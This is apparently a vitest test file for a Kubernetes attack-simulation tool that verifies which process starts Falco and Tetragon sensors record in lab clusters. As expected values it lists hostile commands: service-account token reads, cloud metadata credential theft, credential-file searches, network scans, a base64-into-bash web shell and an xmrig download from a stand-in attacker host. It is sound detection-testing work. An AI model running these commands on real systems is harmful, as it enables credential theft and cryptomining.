import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CoreV1Api } from '@kubernetes/client-node'
import type { RunReport, ScenarioId } from '../src/index.ts'
import { cleanup, runScenario, scenarios } from '../src/index.ts'
import type { LabUnderTest } from './lab-process.ts'
import { startLab } from './lab-process.ts'

// Real API servers, containers and sensors of the lab; what is compared is what arrives at the receiver of the events.
let lab: LabUnderTest
beforeAll(async () => {
  lab = await startLab([
    { name: 'eks-legacy', marked: true },
    { name: 'aks-prod', marked: true },
    { name: 'edge-k3s', marked: false },
  ])
}, 60_000)
afterAll(() => lab.stop())

interface Row {
  exe: string
  line: string
  parent: string
  upper: boolean
}

/** Rows of the pod's process starts once `count` have arrived after the web servers' own. */
async function victimRows(cluster: string, report: RunReport, count: number): Promise<Row[]> {
  for (let attempt = 0; ; attempt++) {
    const events = lab.runtime.get(cluster) ?? []
    const rows =
      cluster === 'eks-legacy' ? falcoRows(events, report.victim.uid) : tetragonRows(events, report.victim.uid)
    if (rows.length >= count || attempt > 100) return rows
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}

type Json = Record<string, any> // any: sensor events, read field by field

function falcoRows(events: Json[], uid: string): Row[] {
  return events
    .map((event) => event['output_fields'] as Json)
    .filter((fields) => fields['k8s.pod.uid'] === uid)
    .map((fields) => ({
      exe: fields['proc.exepath'],
      line: fields['proc.cmdline'],
      parent: fields['proc.pcmdline'],
      upper: fields['proc.is_exe_upper_layer'],
    }))
    .filter(
      ({ parent, line }) =>
        !parent.startsWith('containerd-shim') && !line.startsWith('php-fpm') && !line.startsWith('nginx'),
    )
}

function tetragonRows(events: Json[], uid: string): Row[] {
  const foreign = new Set(
    events
      .filter((event) => event['process_kprobe']?.policy_name === 'exec-outside-image')
      .map((event) => event['process_kprobe'].process.exec_id as string),
  )
  const text = (process: Json) =>
    [process['binary'].split('/').at(-1), process['arguments']].filter((part) => part !== undefined).join(' ')
  return events
    .map((event) => event['process_exec'] as Json | undefined)
    .filter((exec): exec is Json => exec?.['process'].pod?.uid === uid)
    .map(({ process, parent }) => ({
      exe: process.binary,
      line: text(process),
      parent: text(parent),
      upper: foreign.has(process.exec_id),
    }))
    .filter(({ parent, exe }) => !parent.startsWith('containerd-shim') && !/php-fpm$|nginx$/.test(exe))
}

const token = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'
const metadata = 'http://169.254.169.254'
const recon: [string, string][] = [
  ['/usr/bin/cat', token],
  [
    '/usr/bin/curl',
    'curl -s -k -A kubectl -H Authorization: Bearer <token> -H Content-Type: application/json -X POST -d <json> https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
  ],
  ['/usr/bin/grep', 'grep -Po "allowed":\\s*\\K(true|false)'],
  ['/usr/bin/nmap', 'nmap -Pn --open kubernetes.default/24 -p 443'],
]
const lateral: [string, string][] = [
  [
    '/usr/bin/curl',
    `curl -s -m 5 -H Metadata-Flavor: Google ${metadata}/computeMetadata/v1/instance/service-accounts/default/token`,
  ],
  ['/usr/bin/grep', 'grep -Po "access_token":\\s*"\\K[^"]+'],
  ['/usr/bin/curl', `curl -sf -m 5 -X PUT ${metadata}/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600`],
  [
    '/usr/bin/curl',
    `curl -s ${metadata}/latest/meta-data/iam/security-credentials -H X-aws-ec2-metadata-token: <token>`,
  ],
  [
    '/usr/bin/curl',
    `curl -s ${metadata}/latest/meta-data/iam/security-credentials/eks-legacy-node-role -H X-aws-ec2-metadata-token: <token>`,
  ],
  ['/usr/bin/head', 'head -c 30'],
]
const secrets: [string, string][] = [
  ['/usr/bin/find', 'find / -path */.git-credentials'],
  ['/usr/bin/cat', 'cat /home/user/.git-credentials'],
  ['/usr/bin/cat', token],
  ['/usr/bin/head', 'head -c 30'],
  ['/usr/bin/curl', `curl -sf -m 5 -H Metadata-Flavor: Google ${metadata}/computeMetadata/v1/ -o /dev/null`],
  [
    '/usr/bin/curl',
    `curl -sf -m 5 -X PUT ${metadata}/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600 -o /dev/null`,
  ],
  ['/usr/bin/grep', 'grep AWS_SECRET_ACCESS_KEY='],
]
const crypto: [string, string][] = [
  ['/usr/sbin/modprobe', 'modprobe msr allow_writes=on'],
  ['/usr/bin/touch', 'touch /etc/ld.so.preload'],
  ['/usr/bin/curl', 'curl -sO http://cordon-simulation-attacker/xmrig'],
  ['/usr/bin/chmod', 'chmod +x xmrig'],
  ['/var/www/html/xmrig', 'xmrig'],
]
const domain: [string, string][] = [
  ['/usr/bin/curl', 'curl -s -m 10 -X POST http://mdc-eicar.alerts.security.azure.com?SendingData -o /dev/null'],
]

const expected: Record<Exclude<ScenarioId, 'web-shell'>, [string, string][]> = {
  reconnaissance: recon,
  'lateral-movement': lateral,
  'secrets-gathering': secrets,
  'crypto-mining': crypto,
  'threat-intelligence-domain': domain,
  all: [...recon, ...lateral, ...secrets, ...crypto, ...domain],
}

/** Secrets and payloads differ from run to run; the order within a pipeline is that of the scheduler. */
function plain(rows: Row[]): string[] {
  return rows
    .map(({ exe, line, parent, upper }) => `${parent} > ${exe}: ${line}${upper ? ' (drift)' : ''}`)
    .map((text) =>
      text
        .replace(/IyEvYmluL2Jhc2gK[\w+/=]+/g, '<base64>')
        .replace(/eyJ[\w.-]{40,}/, '<token>')
        .replace(/\{"kind.*\}\}/, '<json>')
        .replace(/(metadata-token: )[\w-]+/, '$1<token>'),
    )
    .toSorted()
}

function treeOf(children: [string, string][]): string[] {
  const shell = 'sh -c echo <base64>| base64 -d| bash'
  return [
    `php-fpm: pool web > /usr/bin/sh: ${shell}`,
    `${shell} > /usr/bin/base64: base64 -d`,
    `${shell} > /usr/bin/bash: bash`,
    ...children.map(([exe, line]) => `bash > ${exe}: ${line}${exe.endsWith('xmrig') ? ' (drift)' : ''}`),
  ].toSorted()
}

describe('scenarios', () => {
  it.each(Object.entries(expected))(
    '%s starts exactly the published processes on the victim',
    async (scenario, children) => {
      const report = await runScenario({
        kubeConfig: lab.kubeConfig,
        context: 'eks-legacy',
        scenario: scenario as ScenarioId,
      })
      const rows = await victimRows('eks-legacy', report, children.length + 3)
      expect(plain(rows)).toEqual(treeOf(children))
    },
    60_000,
  )

  it('delivers the bare web shell command, which the shell executes in place', async () => {
    const report = await runScenario({ kubeConfig: lab.kubeConfig, context: 'eks-legacy', scenario: 'web-shell' })
    expect(report.output.trim()).toBe('nginx')
    const rows = await victimRows('eks-legacy', report, 2)
    expect(plain(rows)).toEqual([
      'php-fpm: pool web > /usr/bin/sh: sh -c whoami',
      'php-fpm: pool web > /usr/bin/whoami: whoami',
    ])
  }, 60_000)

  it('leaves exactly one audit event of the victim: its self review, as the user agent kubectl', async () => {
    const report = await runScenario({ kubeConfig: lab.kubeConfig, context: 'aks-prod', scenario: 'reconnaissance' })
    const account = `system:serviceaccount:${report.namespace}:cordon-simulation-victim`
    let own: Json[] = []
    for (let attempt = 0; attempt < 100 && own.length === 0; attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 50))
      own = (lab.audit.get('aks-prod') ?? []).filter(
        (event) => event['user'].username === account && event['stage'] === 'ResponseComplete',
      )
    }
    expect(own).toHaveLength(1)
    expect(own[0]).toMatchObject({
      verb: 'create',
      userAgent: 'kubectl',
      objectRef: { resource: 'selfsubjectaccessreviews' },
      responseStatus: { code: 201 },
    })
    expect(own[0]?.['user'].extra['authentication.kubernetes.io/pod-name']).toEqual(['cordon-simulation-victim'])
  }, 60_000)

  it('shows the mined file as drift to a sensor without such a flag, too', async () => {
    const report = await runScenario({ kubeConfig: lab.kubeConfig, context: 'aks-prod', scenario: 'crypto-mining' })
    const rows = await victimRows('aks-prod', report, crypto.length + 3)
    expect(rows.filter((row) => row.upper)).toEqual([
      { exe: '/var/www/html/xmrig', line: 'xmrig', parent: 'bash', upper: true },
    ])
  }, 60_000)

  it('cleans up, keeps on demand, and removes what was kept', async () => {
    const gone = await runScenario({ kubeConfig: lab.kubeConfig, context: 'eks-legacy', scenario: 'web-shell' })
    const kept = await runScenario({
      kubeConfig: lab.kubeConfig,
      context: 'eks-legacy',
      scenario: 'web-shell',
      keep: true,
    })
    expect(gone.namespace).not.toBe(kept.namespace)
    expect(await cleanup({ kubeConfig: lab.kubeConfig, context: 'eks-legacy' })).toEqual([kept.namespace])
    lab.kubeConfig.setCurrentContext('eks-legacy')
    const core = lab.kubeConfig.makeApiClient(CoreV1Api)
    const alive = async () =>
      (await core.listNamespace()).items.filter(
        ({ metadata }) => metadata?.name?.startsWith('cordon-simulation') && metadata.deletionTimestamp === undefined,
      )
    expect(await alive()).toEqual([])
  }, 60_000)

  it('leaves a cluster alone that is not marked, and says how to mark it', async () => {
    const run = () => runScenario({ kubeConfig: lab.kubeConfig, context: 'edge-k3s', scenario: 'web-shell' })
    await expect(run()).rejects.toThrow('not marked for simulations')
    await expect(
      runScenario({ kubeConfig: lab.kubeConfig, context: 'nowhere', scenario: 'web-shell' }),
    ).rejects.toThrow('no context "nowhere"; it has: ')
    expect(lab.runtime.get('edge-k3s') ?? []).toEqual([])
  })

  it('stops when it is told to, and removes what it made', async () => {
    const abort = new AbortController()
    const messages: string[] = []
    const run = runScenario({
      kubeConfig: lab.kubeConfig,
      context: 'eks-legacy',
      scenario: 'reconnaissance',
      signal: abort.signal,
      onProgress: ({ stage, message }) => {
        messages.push(message)
        if (stage === 'attack') setImmediate(() => abort.abort(new Error('interrupted')))
      },
    })
    await expect(run).rejects.toThrow('interrupted')
    expect(messages.at(-1)).toMatch(/^deleting namespace/)
  }, 60_000)
})

describe('metadata', () => {
  it('names the alerts of the published table, ten in all', () => {
    const names = new Set(scenarios.flatMap((scenario) => scenario.expectedAlerts))
    expect(names.size).toBe(10)
    expect(scenarios.find(({ id }) => id === 'all')?.expectedAlerts).toHaveLength(10)
    expect(scenarios.filter(({ id }) => id !== 'all').flatMap((scenario) => scenario.expectedAlerts)).toHaveLength(14)
  })
})
